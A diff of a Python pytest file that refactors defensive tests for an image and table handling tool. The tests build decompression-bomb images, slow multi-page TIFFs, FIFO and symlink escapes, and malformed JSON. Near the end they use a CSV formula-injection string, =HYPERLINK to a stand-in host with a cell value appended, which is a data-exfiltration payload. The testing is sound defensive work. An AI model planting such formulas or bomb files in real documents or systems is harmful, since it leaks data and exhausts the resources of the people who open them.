@@ -6,7 +6,6 @@ import os
 import re
 import socket
 import struct
-import sys
 import time
 import warnings
 import zlib
@@ -40,20 +39,17 @@ def train(path, mapper):
     mapper(cfg, is_train=False)({"file_name": str(path), "annotations": []})
 
 
-OPENERS = {name: getattr(images, name) for name in ("read_image", "read_mask", "read_values")}
-OPENERS |= {"inspect_image": images.inspect_image, "near_duplicates": describe_image}
-OPENERS |= {
+OPENERS = {
+    **{name: getattr(images, name) for name in ("read_image", "read_mask", "read_values")},
+    "inspect_image": images.inspect_image,
+    "near_duplicates": describe_image,
     "report": embed,
     "detector": lambda path: train(path, LesionMapper),
     "classifier": lambda path: train(path, ClassificationMapper),
     "contact sheet": lambda path: show_tile(Figure().subplots(), path.parent, path.name, ""),
     "review sheets": lambda path: plot_review_sheets(path.parent, path.parent.parent / "review"),
 }
-
-
-@pytest.fixture(params=OPENERS)
-def opener(request):
-    return OPENERS[request.param]
+every_opener = pytest.mark.parametrize("opener", OPENERS.values(), ids=OPENERS)
 
 
 @pytest.fixture
@@ -68,6 +64,7 @@ def encoded(kind, mode="RGB", **options):
     return stream.getvalue()
 
 
+@every_opener
 @pytest.mark.parametrize("kind", images.IMAGE_FORMATS)
 def test_formats_that_are_opened(folder, kind, opener):
     (folder / "a.png").write_bytes(encoded(kind))
@@ -100,12 +97,15 @@ def jpeg(times):
     return data[:-2] + times * data[data.rindex(b"\xff\xda") : -2] + data[-2:]
 
 
-def tiff(tags):
-    """A little-endian TIFF's page of (tag, value) pairs."""
-    pairs = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags)
-    return struct.pack("<H", len(tags)) + pairs
+def tiff(pages, tags):
+    """A little-endian TIFF of so many pages, each of the same {tag: value}."""
+    pairs = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags.items())
+    page = struct.pack("<H", len(tags)) + pairs
+    places = (struct.pack("<I", 8 + i * (len(page) + 4)) for i in range(pages))
+    return b"II*\0" + b"".join(place + page for place in places) + b"\0" * 4
 
 
+WEBP = b"RIFF\x2a\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0" + (16_000).to_bytes(3, "little") * 2
 HOSTILE = {f"{kind}.jpg": encoded(kind) for kind in "EPS ICO PCX TGA DDS IM SGI".split()}
 HOSTILE |= {
     "psd.jpg": b"8BPS" + struct.pack(">H6xHIIHH", 1, 3, 8, 8, 8, 3) + b"\0" * 250,
@@ -118,23 +118,19 @@ HOSTILE |= {
     "large.jpg": resized("JPEG", 65_000, 65_000),
     "large.jp2": resized("JPEG2000", 1_000_000, 1_000_000),
     "large.pgm": b"P5 100000 100000 255\n",
-    "large.tif": b"II*\0\x08\0\0\0"
-    + tiff([(256, 100_000), (257, 100_000), (262, 1), (273, 8)])
-    + b"\0" * 4,
-    "large.webp": b"RIFF\x2a\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0"
-    + (16_000).to_bytes(3, "little") * 2
-    + b"VP8L\x0c\0\0\0\x2f\0\0\0\0\0\x88\x88\x08\0\0\0",
+    "large.tif": tiff(1, {256: 100_000, 257: 100_000, 262: 1, 273: 8}),
+    "large.webp": WEBP + b"VP8L\x0c\0\0\0\x2f\0\0\0\0\0\x88\x88\x08\0\0\0",
     "slow.jpg": jpeg(100),
     "sparse.png": encoded("PNG"),
 }
 REASONS = r"is no readable image|has \d+x\d+ = \d+ pixels|is a JPEG of 1\d\d scans|has \d+ bytes"
 
 
+@every_opener
 @pytest.mark.parametrize("name", HOSTILE)
 def test_other_formats_and_what_takes_memory_or_hours(folder, name, opener, monkeypatch):
     """None starts a program: Pillow would decode EPS with Ghostscript, where there is one."""
-    program, ran = folder.parent / "bin" / "gs", folder.parent / "ran"
-    program.parent.mkdir()
+    program, ran = folder.parent / "gs", folder.parent / "ran"
     program.write_text(f"#!/bin/sh\necho 10.0\ntouch {ran}\n")
     program.chmod(0o755)
     monkeypatch.setenv("PATH", f"{program.parent}{os.pathsep}{os.environ['PATH']}")
@@ -168,10 +164,8 @@ def test_the_largest_image(folder, monkeypatch):
 
 def test_pages_are_not_counted(folder):
     """Which takes quadratic time."""
-    tags = (256, 4), (257, 4), (258, 8), (262, 1), (273, 0), (277, 1), (278, 4), (279, 16)
-    page = tiff(tags)
-    places = (struct.pack("<I", 8 + i * (len(page) + 4)) for i in range(200_000))
-    (folder / "slow.tif").write_bytes(b"II*\0" + b"".join(p + page for p in places) + b"\0" * 4)
+    tags = {256: 4, 257: 4, 258: 8, 262: 1, 273: 0, 277: 1, 278: 4, 279: 16}
+    (folder / "slow.tif").write_bytes(tiff(200_000, tags))
     began = time.monotonic()
     with pytest.raises(BadInputError, match="slow.tif: holds several images"):
         images.read_image(folder / "slow.tif")
@@ -188,8 +182,7 @@ READERS = {
 }
 
 
-@pytest.mark.skipif(sys.platform == "win32", reason="no such files")
-@pytest.mark.parametrize("reader", READERS)
+@pytest.mark.parametrize("reader", READERS.values(), ids=READERS)
 def test_what_never_ends_is_never_opened(folder, reader, monkeypatch):
     os.mkfifo(folder / "pipe.png")
     (folder / "folder.png").mkdir()
@@ -199,16 +192,14 @@ def test_what_never_ends_is_never_opened(folder, reader, monkeypatch):
     for path in (Path("/dev/zero"), *folder.iterdir()):
         assert not images.is_dicom(path)
         with pytest.raises(ValueError, match=f"{path.name}.* cannot be opened"):
-            READERS[reader](path)
+            reader(path)
 
 
-@pytest.mark.skipif(sys.platform == "win32", reason="no pipes")
 def test_links_out_of_a_folder(tmp_path):
     """Links to files and folders inside it and outside, in circles, to nothing; and a pipe."""
-    outside = ("out/b/2.png", "out/b/3.png", "out/4.png")
-    for name in ("in/a/1.png", "in/.a/6.png", "in/.7.png", *outside):
+    for name in "in/a/1.png in/.a/6.png in/.7.png out/b/2.png out/b/3.png out/4.png".split():
         (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
-        (tmp_path / name).write_bytes(encoded("PNG"))
+        (tmp_path / name).touch()
     links = {"in/same.png": "a/1.png", "in/again": "a", "in/there": "../out/b"}
     links |= {"in/5.png": "../out/4.png", "in/gone.png": "nowhere.png"}
     links |= {"out/b/round": ".", "out/b/back": "../../in", "root": "in"}
@@ -227,15 +218,13 @@ def test_links_out_of_a_folder(tmp_path):
     with pytest.raises(BadInputError, match="5.png: is a link .*--follow-links"):
         images.list_files(root, Rejects())
     inside, refused = ["a/1.png", "same.png"], {"gone.png", "pipe.png", "a/pipe.png"}
-    linked = ["5.png", *inside, "there/2.png", "there/3.png"]
-    for follow, listed, errors in (
-        (False, inside, refused | {"5.png", "there"}),
-        (True, linked, refused),
-    ):
+    everything = ["5.png", *inside, "there/2.png", "there/3.png"]
+    for follow, listed in ((False, inside), (True, everything)):
         rejects = Rejects("reject", follow_links=follow)
         paths = images.list_files(root, rejects)
         assert [path.relative_to(root).as_posix() for path in paths] == listed
-        assert {os.path.relpath(error.file, root) for error in rejects.errors} == errors
+        errors = {os.path.relpath(error.file, root) for error in rejects.errors}
+        assert errors == (refused if follow else refused | {"5.png", "there"})
     for name in ("5.png", "there/2.png"):
         with pytest.raises(BadInputError, match=r"--follow-links"):
             images.path_inside(root, name, tmp_path)
@@ -250,20 +239,22 @@ BAD_JSON |= {b"[" * 100_000: "nested", b'[{"a": {"\\u0061": 1, "a": 2}}]': "'a' 
 BAD_JSON[b'{"annotations": [1], "x": 0, "annotations": []}'] = "'annotations' is there 2"
 
 
-@pytest.mark.parametrize("data", BAD_JSON, ids=range(len(BAD_JSON)))
-def test_json_that_is_strict_and_small(tmp_path, monkeypatch, data):
-    """Empty lists take many times the memory of their text."""
+def test_json_that_is_strict_and_small(tmp_path, monkeypatch):
     path = tmp_path / "a.json"
     path.write_text('{"a": [1, 2.5, "\\u00e9\\ud83d\\ude00", null]}', encoding="utf-8-sig")
     assert files.read_json(path) == {"a": [1, 2.5, "é😀", None]}
-    path.write_bytes(data)
-    with pytest.raises(BadInputError, match=f"a.json: .*{BAD_JSON[data]}"):
-        files.read_json(path)
-    path.write_text("[[], {}]")
-    for limit, number in (("_MOST_CONTAINERS", 2), ("_MOST_BYTES", 7)):
-        monkeypatch.setattr(files, limit, number)
-        with pytest.raises(BadInputError, match=f"a.json: .* than {number}"):
+    for data, message in BAD_JSON.items():
+        path.write_bytes(data)
+        with pytest.raises(BadInputError, match=f"a.json: .*{message}"):
             files.read_json(path)
+    path.write_text("[[], {}]")  # empty lists take many times the memory of their text
+    for limit, number in (("_MOST_CONTAINERS", 3), ("_MOST_BYTES", 8)):
+        monkeypatch.setattr(files, limit, number)
+        assert files.read_json(path) == [[], {}]
+        monkeypatch.setattr(files, limit, number - 1)
+        with pytest.raises(BadInputError, match=f"a.json: .* than {number - 1}"):
+            files.read_json(path)
+        monkeypatch.undo()
 
 
 FORMULAS = (
@@ -274,27 +265,25 @@ NUMBERS = ("-1.5", "+3", "-2e-5", "0", "-.5", "7.")
 TEXTS = ("", "a.png", "'quoted'", "a=b", "'", " =1", "ü|x", "two\nlines")
 
 
-@pytest.mark.parametrize("text", [*FORMULAS, *NUMBERS, *TEXTS])
-def test_no_cell_is_a_formula_and_all_are_read_back(text, tmp_path):
-    (cells,) = csv.reader(io.StringIO(csv_line([text, 1]), newline=""))
-    assert cells == [f"'{text}" if text in FORMULAS else text, "1"]
+def test_no_cell_is_a_formula_and_all_are_read_back(tmp_path):
     path = tmp_path / "table.csv"
-    path.write_text(csv_lines([("name", text or "x"), (text, "1")]), encoding="utf-8", newline="")
-    assert read_rows(path, ["name"]) == [{"name": text, text or "x": "1"}]
-
-
-def test_numbers_stay_numbers_and_other_tables_are_refused(tmp_path):
+    for text in (*FORMULAS, *NUMBERS, *TEXTS):
+        (cells,) = csv.reader(io.StringIO(csv_line([text, 1]), newline=""))
+        assert cells == [f"'{text}" if text in FORMULAS else text, "1"]
+        table = csv_lines([("name", text or "x"), (text, "1")])
+        path.write_text(table, encoding="utf-8", newline="")
+        assert read_rows(path, ["name"]) == [{"name": text, text or "x": "1"}]
     values = [-1.5, -3, np.float64(-0.25), np.int64(-7), True, None, float("-inf")]
     assert csv_line(values) == "-1.5,-3,-0.25,-7,True,,-inf\n"
     for content in (b"", b"\xff\xfe", b"other\n1\n", b"name\na,b\n", b'name\n"' + b"a" * 140_000):
-        (tmp_path / "table.csv").write_bytes(content)
+        path.write_bytes(content)
         with pytest.raises(ValueError, match=r"table\.csv: "):
-            read_rows(tmp_path / "table.csv", ["name"])
+            read_rows(path, ["name"])
 
 
 def test_all_tables_go_through_it(tmp_path):
     """Rejects, pseudonyms, evaluation files and the log of evaluations."""
-    attack = '=HYPERLINK("http://x/"&A1)'
+    attack = '=HYPERLINK("http://x/", A1)'
     rejects = Rejects("reject")
     rejects.errors.append(BadInputError(attack, attack))
     rejects.write_csv(tmp_path / "rejected.csv")
